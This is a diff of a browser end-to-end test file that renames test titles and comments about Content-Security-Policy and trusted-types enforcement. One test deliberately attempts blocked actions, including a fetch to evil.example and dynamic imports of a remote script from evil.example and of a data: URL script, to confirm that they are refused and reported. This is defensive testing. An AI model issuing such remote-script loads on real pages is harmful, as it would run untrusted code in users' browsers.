@@ -5,7 +5,7 @@ import { balanceOf, openCheckout, payWith } from './purchase.ts'
 import { refusedByPolicy } from './refused-by-policy.ts'
 import { choosePicture, seeUploaded, tiles, uploadButton } from './upload-form.ts'
 
-test('a visitor who signs in, draws, looks, pays and uploads meets nothing that the policies refuse', async ({
+test('sign-in, generation, payment and upload cause no policy violations', async ({
   page,
   context,
   account,
@@ -34,14 +34,14 @@ test('a visitor who signs in, draws, looks, pays and uploads meets nothing that 
   await uploadButton(page).click()
   await seeUploaded(page)
 
-  // By links of the app, so that scripts of pages are added to one that is open.
+  // Through client navigation, so that scripts are added to an open page.
   await page.getByRole('link', { name: 'Blog' }).first().click()
   await page.getByRole('article').getByRole('link').first().click()
   await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
   expect(refused).toEqual([])
 })
 
-test('a page that breaks in the browser is the error page, which the policies let through and the theme holds for', async ({
+test('the error page keeps the theme and causes no policy violations', async ({
   page,
   context,
 }) => {
@@ -55,7 +55,7 @@ test('a page that breaks in the browser is the error page, which the policies le
   expect(refused).toEqual([])
 })
 
-test('pages for operators and developers meet nothing that their policies refuse', async ({ page, context }) => {
+test('operator and developer pages cause no policy violations', async ({ page, context }) => {
   const refused = await refusedByPolicy(context)
   for (const address of ['/api/docs', '/dev/mailbox', '/sandbox/orders', '/favicon.svg']) {
     expect((await page.goto(address))?.status()).toBe(200)
@@ -63,7 +63,7 @@ test('pages for operators and developers meet nothing that their policies refuse
   expect(refused).toEqual([])
 })
 
-test('what a page is made to do against the policies is refused, and told', async ({ page, context }) => {
+test('actions against the policies are blocked and reported', async ({ page, context }) => {
   const refused = await refusedByPolicy(context)
   await goto(page, '/')
   await page.evaluate(() => {
@@ -71,7 +71,7 @@ test('what a page is made to do against the policies is refused, and told', asyn
       try {
         task()
       } catch {
-        // A refusal of trusted types.
+        // Blocked by trusted types.
       }
     }
     const add = (tag: string, attributes: Record<string, string>, text = '') => {
@@ -90,7 +90,7 @@ test('what a page is made to do against the policies is refused, and told', asyn
     ignored(() => (document.body.lastElementChild ?? document.body).insertAdjacentHTML('beforeend', '<b>x</b>'))
     ignored(() => void new Worker('data:text/javascript,1'))
     void fetch('https://evil.example/').catch(() => undefined)
-    // This alone passes by trusted types.
+    // Only dynamic imports are not covered by trusted types.
     for (const from of ['https://evil.example/x.js', 'data:text/javascript,window.ran=4'])
       void import(from).catch(() => undefined)
   })
